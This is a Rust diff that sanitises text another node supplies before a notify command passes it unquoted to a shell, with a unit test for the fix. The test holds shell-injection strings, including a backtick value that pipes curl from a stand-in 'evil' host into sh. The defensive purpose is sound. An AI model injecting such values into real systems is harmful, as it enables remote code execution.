@@ -234,8 +234,11 @@ impl RawView {
     }
 }
 
-/// A NUL-terminated field, cut at a character boundary where too long.
+/// A NUL-terminated field, cut at a character boundary where too long. Another node chose the text, and a server with
+/// `wsrep_notify_cmd` gives it to a shell, unquoted: whatever is more than text there becomes `_`.
 fn c_field<const N: usize>(text: &str) -> [u8; N] {
+    let is_text = |c: char| c.is_alphanumeric() || "._-:@%+/,=[]".contains(c);
+    let text: String = text.chars().map(|c| if is_text(c) { c } else { '_' }).collect();
     let mut field = [0; N];
     let mut len = text.len().min(N - 1);
     while !text.is_char_boundary(len) {
@@ -243,4 +246,26 @@ fn c_field<const N: usize>(text: &str) -> [u8; N] {
     }
     field[..len].copy_from_slice(&text.as_bytes()[..len]);
     field
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_that_another_node_chose_says_nothing_to_a_shell() {
+        let told = |text: &str| {
+            let field = c_field::<32>(text);
+            let end = field.iter().position(|byte| *byte == 0).unwrap();
+            String::from_utf8(field[..end].to_vec()).unwrap()
+        };
+        for plain in ["db-1.example.com", "node_2", "[2001:db8::1]:3306", "fe80::1%eth0", "größe"]
+        {
+            assert_eq!(told(plain), plain);
+        }
+        assert_eq!(told("x`curl evil|sh`"), "x_curl_evil_sh_");
+        assert_eq!(told("a;b&c$(d)>e\n'f\" --g"), "a_b_c__d__e__f__--g");
+        let long = told(&"é".repeat(40));
+        assert_eq!(long, "é".repeat(15), "it is cut between characters");
+    }
 }
